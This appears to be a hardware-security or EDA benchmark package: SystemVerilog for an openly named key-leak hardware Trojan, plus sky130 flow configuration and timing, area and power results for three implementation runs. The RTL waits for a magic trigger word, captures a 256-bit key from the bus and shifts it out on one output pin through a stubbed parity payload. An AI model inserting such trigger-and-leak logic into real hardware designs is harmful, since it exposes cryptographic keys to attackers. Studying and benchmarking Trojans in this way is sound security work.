--- src/rtl/trojan_pkg.sv ---
// Shared types, default sizes and helpers for the parametrised key-leak Trojan.
package trojan_pkg;

  localparam int unsigned DATA_W_DEF = 64;
  localparam int unsigned KEY_W_DEF  = 256;
  localparam int unsigned LEAK_W_DEF = 2;

  localparam int unsigned NB = KEY_W_DEF / DATA_W_DEF;
  localparam int unsigned NL = KEY_W_DEF / LEAK_W_DEF;

  typedef enum logic [1:0] {
    IDLE    = 2'd0,
    CAPTURE = 2'd1,
    LEAK    = 2'd2,
    DONE    = 2'd3
  } state_t;

  // Bits needed to hold the value v-1; never returns less than 1.
  function automatic int unsigned clog2(input int unsigned v);
    int unsigned r;
    r = 0;
    for (int unsigned i = 0; i < 32; i++) begin
      if ((64'd1 << i) < 64'(v)) r = i + 1;
    end
    return (r == 0) ? 1 : r;
  endfunction

endpackage

--- src/rtl/trojan_leak_payload.sv ---
// Payload stub: folds one leak chunk to a single parity bit, gated by en.
module trojan_leak_payload #(
  parameter int unsigned LEAK_W = 2
) (
  input  logic              en,
  input  logic [LEAK_W-1:0] chunk,
  output logic              leak_c
);

  assign leak_c = en & (^chunk);

endmodule

--- src/rtl/trojan_param_leak.sv ---
// Key-leak Trojan: trigger on a snooped word, capture KEY_W bits, leak them on one pin.
// Optional macro TROJAN_REARM_EN lets the Trojan fire again after DONE.
module trojan_param_leak
  import trojan_pkg::*;
#(
  parameter int unsigned        DATA_W    = DATA_W_DEF,
  parameter int unsigned        KEY_W     = KEY_W_DEF,
  parameter int unsigned        LEAK_W    = LEAK_W_DEF,
  parameter int unsigned        TRIG_W    = 32,
  parameter logic [TRIG_W-1:0]  TRIG_VAL  = TRIG_W'(32'h0044ab93),
  parameter int unsigned        TRIG_HITS = 1
) (
  input  logic              clk,
  input  logic              rst_all_n,
  input  logic [DATA_W-1:0] data,
  output logic              out,
  output logic              leak_busy,
  output logic              leak_done
);

  localparam int unsigned NB_L   = KEY_W / DATA_W;
  localparam int unsigned NL_L   = KEY_W / LEAK_W;
  localparam int unsigned HIT_W  = clog2(TRIG_HITS + 1);
  localparam int unsigned BEAT_W = clog2(NB_L + 1);
  localparam int unsigned BIT_W  = clog2(NL_L + 1);

  state_t             state, state_nxt;
  logic [HIT_W-1:0]   hit_cnt, hit_nxt;
  logic [BEAT_W-1:0]  beat_cnt, beat_nxt;
  logic [BIT_W-1:0]   bit_cnt, bit_nxt;
  logic [KEY_W-1:0]   key, key_nxt;
  logic               busy_nxt, done_nxt;
  logic               match_c, payload_c;

  assign match_c = (data[TRIG_W-1:0] == TRIG_VAL);

  trojan_leak_payload #(.LEAK_W(LEAK_W)) u_payload (
    .en     (state == LEAK),
    .chunk  (key[LEAK_W-1:0]),
    .leak_c (payload_c)
  );

  // Next-state, counter and key update logic.
  always_comb begin
    state_nxt = state;
    hit_nxt   = hit_cnt;
    beat_nxt  = beat_cnt;
    bit_nxt   = bit_cnt;
    key_nxt   = key;
    case (state)
      IDLE: begin
        if (match_c) begin
          if (hit_cnt == HIT_W'(TRIG_HITS - 1)) begin
            hit_nxt   = HIT_W'(TRIG_HITS);
            beat_nxt  = '0;
            state_nxt = CAPTURE;
          end else begin
            hit_nxt = hit_cnt + HIT_W'(1);
          end
        end
      end
      CAPTURE: begin
        for (int unsigned i = 0; i < NB_L; i++) begin
          if (beat_cnt == BEAT_W'(i)) key_nxt[i*DATA_W +: DATA_W] = data;
        end
        if (beat_cnt == BEAT_W'(NB_L - 1)) begin
          beat_nxt  = '0;
          bit_nxt   = '0;
          state_nxt = LEAK;
        end else begin
          beat_nxt = beat_cnt + BEAT_W'(1);
        end
      end
      LEAK: begin
        key_nxt = key >> LEAK_W;
        if (bit_cnt == BIT_W'(NL_L - 1)) begin
          bit_nxt   = '0;
          state_nxt = DONE;
        end else begin
          bit_nxt = bit_cnt + BIT_W'(1);
        end
      end
      DONE: begin
`ifdef TROJAN_REARM_EN
        hit_nxt   = '0;
        key_nxt   = '0;
        state_nxt = IDLE;
`else
        state_nxt = DONE;
`endif
      end
      default: state_nxt = IDLE;
    endcase
    busy_nxt = (state_nxt == LEAK);
    done_nxt = (state_nxt == LEAK) && (bit_nxt == BIT_W'(NL_L - 1));
  end

  // Registered outputs line up with the state they describe; out lags the payload by one cycle.
  always_ff @(posedge clk or negedge rst_all_n) begin
    if (!rst_all_n) begin
      state     <= IDLE;
      hit_cnt   <= '0;
      beat_cnt  <= '0;
      bit_cnt   <= '0;
      key       <= '0;
      out       <= 1'b0;
      leak_busy <= 1'b0;
      leak_done <= 1'b0;
    end else begin
      state     <= state_nxt;
      hit_cnt   <= hit_nxt;
      beat_cnt  <= beat_nxt;
      bit_cnt   <= bit_nxt;
      key       <= key_nxt;
      out       <= payload_c;
      leak_busy <= busy_nxt;
      leak_done <= done_nxt;
    end
  end

endmodule

--- config.mk ---
export PLATFORM = sky130hd
export DESIGN_NAME = trojan_param_leak
export DESIGN_NICKNAME = d
export VERILOG_FILES = /design/src/rtl/trojan_pkg.sv /design/src/rtl/trojan_leak_payload.sv /design/src/rtl/trojan_param_leak.sv
export SDC_FILE = /design/constraint.sdc
export NUM_CORES = 1
export LEC_CHECK = 0
export ABC_AREA = 1
export CAP_MARGIN = 20
export CORE_ASPECT_RATIO = 0.75
export CORE_MARGIN = 3
export CORE_UTILIZATION = 60
export CTS_CLUSTER_DIAMETER = 100
export DETAILED_ROUTE_END_ITERATION = 10
export PLACE_DENSITY = 0.8
export SLEW_MARGIN = 20
export SYNTH_ARGS = -nofsm -noshare
export SYNTH_HDL_FRONTEND = slang
export SYNTH_SLANG_ARGS = --single-unit
--- constraint.sdc ---
create_clock -name clk -period 2.05 [get_ports clk]
set_input_delay 0.3075 -clock clk [delete_from_list [all_inputs] [get_ports clk]]
set_output_delay 0.3075 -clock clk [all_outputs]
set_load 0.1 [all_outputs]
==> results of run 1 <==
-- placed cells by master (no fill, tap or decap), types with 16 or more instances in the layout --
master	count
nand2_1	325
dfrtp_1	273
o21ai_1	206
inv_1	152
nor2_1	151
a31oi_1	134
clkdlybuf4s50_1	64
o21ai_0	44
nand2_4	44
clkbuf_16	27
buf_12	20
nand3_1	16
-- what timing repair did --
item	4_1_cts	5_1_grt
resized for setup	0	1
endpoints found under the hold margin	102	0
setup endpoints to repair	0	1
hold buffers	1	0
-- cells by family after synthesis --
group / after synthesis / share of synthesized area [%]
buf+inv: 248 / 8.90
compound gates: 395 / 17.1
simple gates: 562 / 19.6
flops: 273 / 53.5
fa+ha+maj: 9 / 0.882
-- registers in the layout, summed over array words and instances (netlist names) --
name,cells
key,256
hit_cnt,1
beat_cnt,3
out,1
state,2
leak_done,1
leak_busy,1
bit_cnt,8
-- power by group --
| group | leakage (nW) | internal [mW] | total, mW | switching, mW |
|---|---|---|---|---|
| registers | 2.46 | 5.39 | 5.39 | 0 |
| logic | 3.27 | 0.208 | 0.492 | 0.284 |
| clock network | 0.460 | 3.09 | 5.12 | 2.03 |
| total | 6.19 | 8.69 | 11.0 | 2.32 |
-- per-layer routing --
layer / global-route usage (%) / vias to the layer above / part of all wire [%]
met1: 35.9 / 4849 / 47
li1: - / 4902 / -
met2: 38.8 / 230 / 47
met5: 0 / - / 0
met3: 3.83 / 23 / 5.0
met4: 3.57 / 0 / 0.82
-- worst max-delay path: cells and delay by family, from the launching register on --
family	cells	cell delay, ps
adders and majority gates	1	290
buffers and inverters	2	370
DFF	1	430
and+or+nand+nor	3	540
AOI/OAI and AO/OA	1	150
-- worst paths after layout --
| check | endpoint | slack [ps] | cells past startpoint |
|---|---|---|---|
| setup / recovery | key[213] | 180 | 7 |
| hold / removal | key[23] | 230 | 2 |
| setup reg to reg | key[213] | 180 | 7 |
| hold reg to reg | key[254] | 490 | 2 |
| max in group asynchronous | key[7] | 1110 | 3 |
| min in group clk | key[254] | 420 | 3 |
-- per-stage QoR --
| stage | worst slack [ps] | total power [mW] | utilization (%) | instances | hold slack (ps) |
|---|---|---|---|---|---|
| 6_report | 182 | 11.0 | 71.5 | 1821 | 234 |
| 5_1_grt | 39.7 | 11.3 | 71.5 | 1821 | 253 |
| 4_1_cts | 164 | 11.1 | 71.5 | 1821 | 229 |
| 3_5_place_dp | 126 | 5.98 | 66.9 | 1772 | 180 |
| 3_3_place_gp | 164 | 5.98 | 66.9 | 1772 | 178 |
| 2_1_floorplan | 471 | 5.65 | - | 1487 | 11.9 |
-- layout make-up --
class | count | area [µm²] | area share (%)
multi-input combinational | 966 | 4850 | 33.0
timing repair buffer | 95 | 1130 | 7.72
inverter | 157 | 597 | 4.06
sequential | 273 | 6830 | 46.5
tap | 282 | 353 | 2.40
clock inverter | 13 | 171 | 1.17
clock buffer | 35 | 756 | 5.14
==> run summary, run 1 <==
Flops & latches, synth -> 273
Root Driver -> clkbuf_16
Critical path's slowest cell -> dfrtp_1
Most frequent cells after synthesis -> nand2_1 (328), dfrtp_1 (273), o21ai_1 (206), inv_1 (152), nor2_1 (151)
Fin. Hold Viols -> 0
Mean post-synth cell area -> 8.59 µm²
Register area share after synthesis -> 53.5%
PD cells -> 749 nW/µm²
Final HPWL DP -> 18,000 µm
FF-to-FF Start -> state[0]
WL/cell -> 15.1 µm
Max Freq -> 0.535 GHz
Remaining antenna violation count -> 0
Port bufs -> 68
I/O Pins -> 69
Fill cells -> 1,508
Shortest period the worst path allows -> 1870 ps
Fin Setup TNS -> 0 ps
Endpoint type of the worst setup path -> flip-flop
Worst Path Required -> 2490 ps
Setup-failing EPs final -> 0
Chip width -> 174 µm
Synth cell types -> 33
# H-tree levels -> 1
Skew-Pair Late Insertion Delay -> 530 ps
CP arrival -> 2310 ps
Synth Warn # -> 0
Post-Syn Area -> 12,800 µm²
CTS sink count -> 273
Status -> finished clean
Core ar. -> 20,600 µm²
Peak supply drop -> 0.875 mV
Vias in the first global route -> 9,697
Congestion Overflow GR -> 0
First-pass GRT wire length -> 47,400 µm
Worst Setup SP -> state[0]
Via count -> 10.0k
Post-synth ARST share -> 100%
Final wirelength -> 27,500 µm
Post-CTS Setup Bufs -> 0
Least-Margin Pin Slew -> 417 ps
Post-route cell area -> 14,700 µm²
GRT Total Usage -> 24.1%
Ant diodes -> 0
# DRC -> 0
Share of the synthesized area in the top cell type -> 53.5%
Fin nets -> 1,594
TritonCTS clock tree -> built
Max Root-Sink Buffers -> 3
Max-Cap Viols -> 0
DIE AREA -> 23,100 µm²
Initial DRC Count -> 885
Placement Cell Area -> 13,700 µm²
Routability congestion estimate -> 0.823
EDFF count, synth -> 0
Worst Hold Class -> input pin to async pin
RSZ-0062 raised after global routing -> false
Routed vias/inst -> 5.49
Largest net degree at the start of global routing -> 75
Leakage -> 6.19 nW
Worst-path clk slew -> 60 ps
Synth area leaders -> dfrtp_1 (53%), nand2_1 (9.6%), o21ai_1 (8.1%)
CP max FO -> 34
Clock skew -> 16.0 ps
Critical path class -> flip-flop to flip-flop
1st-pass router iterations -> 5
CP Launch Type -> flip-flop
Slew headroom -> 72.2%
Ys flop type -> dfrtp_1
Antenna violations before repair -> 0
Count of final max-slew check failures -> 0
Final period utilization -> 91.1%
Clock buffer count from CTS -> 26
Die height -> 132 µm
Post-Syn Nets -> 1,562
Row Count -> 45
Count leader, synth -> nand2_1
Synth area leader -> dfrtp_1
Synth-to-Final Area Change -> 15.0%
Synthesized instance count -> 1,487
Layout cell share with drive strength beyond 1 -> 10.0%
Crit-path max cell delay -> 430 ps
Cell chain of the critical path -> inv_1 -> ha_4 -> nand2_2 -> nand2_4 -> buf_12 -> nor2_1 -> a31oi_1
Initial Util -> 62.2%
No activity file was read; power rests on OpenSTA's default activity.
==> run 2, diff against run 1 <==
--- a/config.mk
+++ b/config.mk
@@ -5,7 +5,7 @@
 export SDC_FILE = /design/constraint.sdc
 export NUM_CORES = 1
 export LEC_CHECK = 0
-export ABC_AREA = 1
+export ABC_AREA = 0
 export CAP_MARGIN = 20
 export CORE_ASPECT_RATIO = 0.75
 export CORE_MARGIN = 3
==> run 2 against run 1 <==
Clock-buffer cell count rose by 1; sequential power rose by 2%; register-to-register slack got worse by 98 ps; sequential cell count did not move; combinational power fell by 29%; highest routed layer unchanged.
==> run summary, run 2 <==
Final wirelength -> 26,700 µm (-2.9%)
Peak supply drop -> 0.585 mV (-33%)
Fill cells -> 1,440 (-4.5%)
Final HPWL DP -> 16,900 µm (-5.9%)
Post-layout util -> 71.6% (+0.15 points)
Fin. Hold Viols -> 0 (unchanged)
Max-Cap Viols -> 0 (unchanged)
Worst r2r path cells -> 7 (unchanged)
Max Freq -> 0.508 GHz (-5.0%)
Count of final max-slew check failures -> 0 (unchanged)
Clock skew -> 15.4 ps (-0.604 ps)
Setup-failing EPs final -> 0 (unchanged)
Via count -> 9,415 (-5.9%)
Worst r2r dst -> key[148]
Fin nets -> 1,415 (-11%)
Skew-Pair Late Insertion Delay -> 530 ps (about the same)
Synthesized instance count -> 1,302 (-12%)
Initial Util -> 61.6% (-0.57 points)
Synth Area in XOR/XNOR -> 0.146% (+0.15 points)
CTS sink count -> 273 (unchanged)
Initial DRC Count -> 904 (+2.1%)
Post-Syn Area -> 12,000 µm² (-6.0%)
Row Count -> 44 (-2.2%)
Leakage -> 5.66 nW (-8.5%)
# DRC -> 0 (unchanged)
Commonest non-fill, non-tap cells in the layout -> a21oi_1 (320), dfrtp_1 (273), nand2_1 (198), o21ai_0 (195), nor2_1 (69)
Core ar. -> 19,500 µm² (-5.2%)
DIE AREA -> 21,800 µm² (-5.8%)
Congestion Overflow GR -> 0 (unchanged)
CP arrival -> 2390 ps (+80 ps)
PD cells -> 758 nW/µm² (+1.2%)
CP Launch Type -> flip-flop
Mean post-synth cell area -> 9.22 µm² (+7.3%)
Worst-path clk slew -> 70 ps (about the same)
Worst reg2reg setup slack -> 80 ps (-100 ps)
Ys flop type -> dfrtp_1
Die height -> 128 µm (-2.9%)
Worst Path Required -> 2470 ps (-20 ps)
Root Driver -> clkbuf_16
RSZ-0062 raised after global routing -> false
Mux share of post-synthesis cell area -> 0.417% (+0.42 points)
FF-to-FF Start -> state[1]
Largest net degree at the start of global routing -> 120 (+60%)
1st-pass router iterations -> 5 (unchanged)
Clock buffer count from CTS -> 26 (unchanged)
Post-Syn Nets -> 1,377 (-12%)
Shortest period the worst path allows -> 1970 ps (+98.5 ps)
Synth Warn # -> 0 (unchanged)
Capturing element of the worst setup path -> key[148]
Routed vias/inst -> 5.85 (+6.4%)
Least-Margin Pin Slew -> 534 ps (+116 ps)
Top reg by flops -> key
Worst Hold Class -> input pin to async pin
CP max FO -> 79 (+130%)
Commonest non-fill, non-tap cell in the layout -> a21oi_1
# H-tree levels -> 1 (unchanged)
Largest regs -> key: 256 flops, bit_cnt: 8 flops, beat_cnt: 3 flops
Endpoint type of the worst setup path -> flip-flop
EDFF count, synth -> 0 (unchanged)
Synth area leader -> dfrtp_1
Antenna violations before repair -> 0 (unchanged)
WL/cell -> 16.6 µm (+9.8%)
Synth-to-Final Area Change -> 16.3%
Share of the synthesized area in the top cell type -> 56.9% (+3.4 points)
Count leader, synth -> a21oi_1
Layout cell share with drive strength beyond 1 -> 7.66% (-2.3 points)
Slew headroom -> 64.3% (-7.8 points)
Port bufs -> 68 (unchanged)
Vias in the first global route -> 9,189 (-5.2%)
Max reg flops -> 256 (unchanged)
Fin worst setup slack -> 83.4 ps (-98.5 ps)
Remaining antenna violation count -> 0 (unchanged)
Ant diodes -> 0 (unchanged)
GRT Total Usage -> 24.7% (+0.53 points)
First-pass GRT wire length -> 44,900 µm (-5.3%)
Synth cell types -> 53 (+61%)
Routability congestion estimate -> 0.843 (+2.4%)
Synth Area in Compound Gates -> 23.3% (+6.2 points)
I/O Pins -> 69 (unchanged)
Synth area leaders -> dfrtp_1 (57%), a21oi_1 (13%), o21ai_0 (8.1%)
Post-synth ARST share -> 100% (unchanged)
Simple-gate area share of the yosys netlist -> 14.1% (-5.5 points)
Final period utilization -> 95.9% (+4.8 points)
Post-synthesis adder-cell area fraction -> 0.938% (+0.057 points)
Status -> finished clean
Most frequent cells after synthesis -> a21oi_1 (323), dfrtp_1 (273), nand2_1 (198), o21ai_0 (195), nor2_1 (70)
Flops & latches, synth -> 273 (unchanged)
Post-Place Setup Slack -> -72.8 ps (-199 ps)
Chip width -> 169 µm (-3.0%)
Register area share after synthesis -> 56.9% (+3.4 points)
Critical path class -> flip-flop to flip-flop
Max Root-Sink Buffers -> 3 (unchanged)
TritonCTS clock tree -> built
Largest family of logic cells by synthesized area -> compound AO/OA/AOI/OAI gates
Worst Setup SP -> state[1]
Pwr Total -> 10.6 mW (-3.8%)
run 2: cell count changes after synthesis, sizes merged, moves of 7 or more:
cell and delta:
nor2b +66, inv -145, clkbuf +7, a21oi +319
nand3 -12, nand2 -186, nor2 -86, a31oi -133
o21ai -57
run 2: critical path, stage by stage (launching register included):
cell and delay, ps:
dfrtp_1 370, buf_4 150, ha_4 180, buf_12 160, buf_12 200, nor2b_1 440, a21oi_1 100, o21ai_0 210
run 2: repair_timing:
| item | in CTS | in global routing |
|---|---|---|
| setup buffers | 0 | 0 |
| gates resized for setup | 0 | 7 |
| endpoints found under the hold margin | 273 | 0 |
| hold buffers | 1 | 0 |
| endpoints found under the setup margin | 0 | 188 |
run 2: worst min path at each step:
stage / slack, ps / end / cells after the start
after floorplan: 10 / beat_cnt[0] / 0
after global placement: 160 / key[59] / 1
after detailed placement: 160 / key[53] / 1
after CTS: 200 / key[188] / 2
after global routing: 200 / key[63] / 2
final: 210 / key[63] / 2
run 2: cells by family (layout without fill, tap and decap cells):
group | count (synthesis) | after routing
simple gates | 368 | 368
fa+ha+maj | 9 | 9
mux | 5 | 5
flops | 273 | 273
xor+xnor | 2 | 2
compound gates | 541 | 541
buf+inv | 104 | 159
run 2: metrics by stage:
stage               hold slack (ps)  std cells  setup TNS [ps]  instance area [µm²]
floorplan                      11.9       1302               0                12000
global placement                162       1564               0                13100
detailed placement              161       1564            -233                13100
CTS                             202       1610               0                13900
global route                    205       1610               0                14000
finish                          209       1610               0                14000
run 2: where the power goes:
part / internal [mW] / leakage (nW) / switching [mW]
registers: 5.45 / 3.15 / 0.0371
clock network: 2.77 / 0.402 / 1.98
logic: 0.186 / 2.12 / 0.165
run 2: area by class of cell:
| cell class | count | area (µm²) | share of cell area, % |
|---|---|---|---|
| clock buffer | 36 | 739 | 5.30 |
| timing repair buffer | 103 | 1170 | 8.40 |
| clock inverter | 9 | 105 | 0.753 |
| tap | 253 | 317 | 2.27 |
| multi-input combinational | 925 | 4750 | 34.0 |
| sequential | 273 | 6830 | 48.9 |
| inverter | 11 | 41.3 | 0.296 |
run 2: layer usage:
layer / wire length, µm / global-route usage (%) / share of wire, %
met1: 12300 / 36.3 / 46
met2: 12900 / 39.9 / 48
met3: 1110 / 3.04 / 4.2
met4: 451 / 6.06 / 1.7
met5: 0 / 0 / 0
==> run 3, diff against run 2 <==
--- a/config.mk
+++ b/config.mk
@@ -11,9 +11,11 @@
 export CORE_MARGIN = 3
 export CORE_UTILIZATION = 60
 export CTS_CLUSTER_DIAMETER = 100
+export CTS_CLUSTER_SIZE = 12
 export DETAILED_ROUTE_END_ITERATION = 10
 export PLACE_DENSITY = 0.8
 export SLEW_MARGIN = 20
 export SYNTH_ARGS = -nofsm -noshare
 export SYNTH_HDL_FRONTEND = slang
 export SYNTH_SLANG_ARGS = --single-unit
+export TNS_END_PERCENT = 100
==> run 3 against run 2 <==
Non-clock buffer count unchanged; worst setup slack worse by 0.72 ps; clock-buffer cell count decreased by 9; hold slack improved by 9.7 ps; critical path type unchanged; largest power group unchanged; highest routed layer unchanged.
==> run summary, run 3 (synthesis results as in run 2) <==
Status -> finished clean
Critical path class -> flip-flop to flip-flop
Peak supply drop -> 0.573 mV (-2.0%)
Fin. Hold Viols -> 0 (unchanged)
Worst Path Required -> 2500 ps (+30 ps)
Least-Margin Pin Slew -> 523 ps (-11.0 ps)
# H-tree levels -> 1 (unchanged)
CTS sink count -> 273 (unchanged)
Fin nets -> 1,415 (unchanged)
Shortest period the worst path allows -> 1970 ps (+0.725 ps)
Final wirelength -> 26,600 µm (-0.42%)
CP arrival -> 2410 ps (+20 ps)
Worst Hold Class -> input pin to async pin
Routed vias/inst -> 5.88 (+0.63%)
First-pass GRT wire length -> 45,000 µm (+0.34%)
DIE AREA -> 21,800 µm² (unchanged)
Commonest non-fill, non-tap cell in the layout -> a21oi_1
1st-pass router iterations -> 5 (unchanged)
Endpoint type of the worst setup path -> flip-flop
Largest regs -> key: 256 flops, bit_cnt: 8 flops, beat_cnt: 3 flops
Synth-to-Final Area Change -> 14.9%
Max-Cap Viols -> 0 (unchanged)
Routability congestion estimate -> 0.843 (unchanged)
Clock buffer count from CTS -> 26 (unchanged)
Commonest non-fill, non-tap cells in the layout -> a21oi_1 (320), dfrtp_1 (273), nand2_1 (198), o21ai_0 (195), nor2_1 (69)
Ant diodes -> 0 (unchanged)
Leakage -> 5.60 nW (-1.1%)
Row Count -> 44 (unchanged)
Max reg flops -> 256 (unchanged)
Die height -> 128 µm (unchanged)
CP Launch Type -> flip-flop
RSZ-0062 raised after global routing -> false
Root Driver -> clkbuf_16
Setup-failing EPs final -> 0 (unchanged)
Fin Setup TNS -> 0 ps (unchanged)
Final period utilization -> 96.0% (about the same)
Skew-Pair Late Insertion Delay -> 520 ps (about the same)
Layout cell share with drive strength beyond 1 -> 6.87% (-0.80 points)
Chip width -> 169 µm (unchanged)
Post-route cell area -> 13,800 µm² (-1.2%)
Congestion Overflow GR -> 0 (unchanged)
Via count -> 9,374 (-0.44%)
TritonCTS clock tree -> built
I/O Pins -> 69 (unchanged)
Initial Util -> 61.6% (unchanged)
Final hold slack -> 218 ps (+9.75 ps)
Post-CTS Setup Bufs -> 0 (unchanged)
# DRC -> 0 (unchanged)
WL/cell -> 16.7 µm (+0.65%)
CP max FO -> 7 (-91%)
Port bufs -> 68 (unchanged)
Slew headroom -> 65.1% (+0.73 points)
Core ar. -> 19,500 µm² (unchanged)
GRT Total Usage -> 24.9% (+0.20 points)
Count of final max-slew check failures -> 0 (unchanged)
Top reg by flops -> key
Fill cells -> 1,486 (+3.2%)
Max Freq -> 0.508 GHz (about the same)
Initial DRC Count -> 939 (+3.9%)
Antenna violations before repair -> 0 (unchanged)
Largest net degree at the start of global routing -> 120 (unchanged)
PD cells -> 725 nW/µm² (-4.4%)
Remaining antenna violation count -> 0 (unchanged)
Number of cells after detailed placement -> 1,564 (unchanged)
Pwr Total -> 9.99 mW (-5.6%)
Clock skew -> 12.8 ps (-2.58 ps)
Max Root-Sink Buffers -> 3 (unchanged)
Placement Cell Area -> 13,100 µm² (unchanged)
Final HPWL DP -> 16,900 µm (unchanged)
Worst-path clk slew -> 60 ps (about the same)
Vias in the first global route -> 9,129 (-0.65%)
Cell Count, Final, Fillers Out -> 1,593 (-1.1%)
-- run 3: cell types whose count changed in the layout (fill, tap and decap cells not counted), moves of 2 or more --
cell        delta
clkbuf_8       -3
clkbuf_1       -6
clkinv_2       -2
bufinv_16      -2
clkinvlp_4     -4
-- run 3: path summary, 6_finish.rpt --
check | endpoint | startpoint | cells after the start | slack [ps]
setup / recovery | leak_done | state[0] | 7 | 80
hold / removal | key[252] | rst_all_n | 2 | 220
setup reg to reg | leak_done | state[0] | 7 | 80
max in group asynchronous | key[208] | rst_all_n | 3 | 1210
min in group clk | hit_cnt | hit_cnt | 1 | 470
hold reg to reg | hit_cnt | hit_cnt | 1 | 470
-- run 3: worst max-delay path: stages (launching register included) --
cell and delay, ps:
dfrtp_1 340, inv_1 80, ha_1 470, or2b_2 320, mux2i_1 140, a22o_2 170
o2111a_1 200, and4b_1 190
-- run 3: repair_timing --
action / 4_1_cts / 5_1_grt
endpoints found under the hold margin: 273 / 0
hold buffers: 1 / 0
setup endpoints to repair: 0 / 186
gates resized for setup: 0 / 6
-- run 3: where the power goes --
part	switching, mW	internal [mW]
clock network	1.85	2.30
registers	0.0365	5.45
logic	0.166	0.186
-- run 3: through the flow --
stage	setup slack (ps)	utilization [%]
finish	82.7	70.8
CTS	35.5	70.7
floorplan	247	-
detailed placement	-72.8	67.1
global route	7.01	70.8
global placement	10.5	67.1
-- run 3: area by class of cell --
| cell class | count | area, µm² | area share, % |
|---|---|---|---|
| Sequential cell | 273 | 6830 | 49.5 |
| Tap cell | 253 | 317 | 2.30 |
| Inverter | 11 | 41.3 | 0.299 |
| Multi-Input combinational cell | 925 | 4750 | 34.4 |
| Clock buffer | 27 | 676 | 4.90 |
| Clock inverter | 1 | 5.00 | 0.0363 |
| Timing Repair Buffer | 103 | 1170 | 8.50 |
-- run 3: layer usage --
metal	global-route usage, %	part of all wire [%]	up-vias
met5	0	0	-
met2	40.8	48	219
li1	-	-	4558
met4	4.90	1.4	0
met3	3.38	4.3	36
met1	36.4	46	4561
